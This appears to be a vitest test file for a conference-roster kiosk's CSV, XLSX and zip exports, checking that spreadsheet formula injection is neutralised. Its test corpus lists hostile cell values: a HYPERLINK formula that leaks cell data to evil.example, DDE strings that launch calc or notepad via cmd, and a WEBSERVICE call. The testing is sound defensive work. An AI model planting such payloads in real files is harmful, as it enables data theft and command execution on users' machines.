import ExcelJS from 'exceljs';
import { unzipSync, strFromU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/roster/csv.ts';
import { openRosterKiosk, type RosterKiosk } from '../support/roster-kiosk.ts';

/** Names crafted to be formulas, links, commands and quote tricks: they must come back as plain text. */
const INJECTION_CORPUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1"," =2+2',
  '"=3+3"',
  '=WEBSERVICE("http://x")',
  '-12',
];

let k: RosterKiosk;
beforeAll(async () => {
  k = openRosterKiosk(false);
  const rows = INJECTION_CORPUS.map((name, i) => `"${name.replace(/"/g, '""')}",Evil Corp,e${i}@x.org,INJ-${i},`).join(
    '\r\n',
  );
  const { summary } = await k.importFile(
    'evil.csv',
    Buffer.from(`Name,Company,Email,Code,Forum\r\n${rows}\r\n刘青,长三角国家技术创新中心,liu@x.cn,OK-1,生物医药\r\n`),
    { preset: '', dryRun: false, mapping: null },
  );
  expect(summary.errors).toEqual([]);
  // Import trims cells, so names that start with a tab or CR (possible from other sources) are set directly.
  for (const [i, name] of INJECTION_CORPUS.entries()) {
    if (/^[\t\r]/.test(name))
      k.kiosk
        .db!.prepare(`UPDATE guests SET display_name = ? WHERE id = (SELECT guest_id FROM guest_codes WHERE code = ?)`)
        .run(name, `INJ-${i}`);
  }
  k.call('guests.scan', { code: 'OK-1' });
  k.call('guests.scan', { code: 'INJ-0' });
  k.call('forums.assign', {
    guestId: k.kiosk.db!.prepare(`SELECT guest_id FROM guest_codes WHERE code = 'OK-1'`).pluck().get() as string,
    forumId: 'biomed',
    overrideReason: '',
  });
});
afterAll(() => k.close());

describe('CSV export', () => {
  it('is UTF-8 with a BOM, neutralises every formula-like cell, and keeps the text', async () => {
    const { bytes, file } = await k.exportFile('csv', '');
    expect(file.fileName).toMatch(/\.csv$/);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.subarray(3).toString('utf8'), ',');
    const header = rows[0]!;
    const nameCol = header.indexOf('Name');
    const names = rows.slice(1).map((r) => r[nameCol]!);
    for (const original of INJECTION_CORPUS) {
      const cell = names.find((n) => n === original || n === `'${original}`);
      expect(cell, original).toBeDefined();
      if (/^[=+\-@\t\r\n]/.test(original)) expect(cell).toBe(`'${original}`);
    }
    expect(names).toContain('刘青');
    const liu = rows.find((r) => r[nameCol] === '刘青')!;
    expect(liu[header.indexOf('Checked in')]).toBe('yes');
    expect(liu[header.indexOf('First arrival')]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+08:00$/);
    expect(liu[header.indexOf('Sub-forum assigned')]).toBe('biomed');
  });

  it('read back by ExcelJS: no formula cells', async () => {
    const { bytes } = await k.exportFile('csv', '');
    const wb = new ExcelJS.Workbook();
    const { Readable } = await import('node:stream');
    const ws = await wb.csv.read(Readable.from([bytes.subarray(3).toString('utf8')]));
    let formulas = 0;
    ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
  });
});

describe('XLSX export', () => {
  it('has the sheets, typed cells, a frozen header and a filter, and zero formula cells', async () => {
    const { bytes } = await k.exportFile('xlsx', '');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(
      [
        'Attendance',
        'No-shows',
        'Walk-ins',
        'Forum Biomedicine',
        'Forum Energy & Environmental Protec',
        'Forum Equipment Manufacturing',
        'Forum Materials',
        'Forum Information Technology',
        'Summary',
      ].map((n) => n.slice(0, 31)),
    );
    const sheet = wb.getWorksheet('Attendance')!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
    let formulas = 0;
    const names: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
    sheet.eachRow((row, n) => n > 1 && names.push(String(row.getCell(2).value)));
    // Byte for byte, even a leading CR (written as &#13; so XML does not normalise it to LF).
    for (const original of INJECTION_CORPUS) expect(names).toContain(original);
    const liuRow = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(2).value === '刘青')!;
    expect(liuRow.getCell(15).value).toBeInstanceOf(Date);
    expect(liuRow.getCell(17).value).toBe(1);
    expect(wb.getWorksheet('Forum Biomedicine')!.rowCount).toBe(2);
    expect(wb.getWorksheet('No-shows')!.rowCount).toBe(INJECTION_CORPUS.length); // header + everyone but 2
  });

  it('--forum limits the export to that forum', async () => {
    const { file } = await k.exportFile('csv', 'biomed');
    expect(file.rows).toBe(1);
  });
});

describe('bundle', () => {
  it('zips the CSV, the XLSX, every event as JSON and a README', async () => {
    const { bytes } = await k.exportFile('bundle', '');
    const files = unzipSync(new Uint8Array(bytes));
    expect(Object.keys(files).sort()).toEqual(['README.txt', 'attendance.csv', 'attendance.xlsx', 'events.json']);
    const events = JSON.parse(strFromU8(files['events.json']!)) as {
      events: Array<{ type: string; hlc: string; deviceId: string; originalTime: string; receivedTime: string }>;
    };
    expect(events.events.map((e) => e.type).sort()).toEqual(['check_in', 'check_in', 'forum_assign']);
    for (const e of events.events)
      expect(e).toMatchObject({
        hlc: expect.any(String),
        deviceId: expect.any(String),
        originalTime: expect.stringMatching(/\+08:00$/),
      });
    expect(strFromU8(files['README.txt']!)).toContain('First arrival');
  });
});
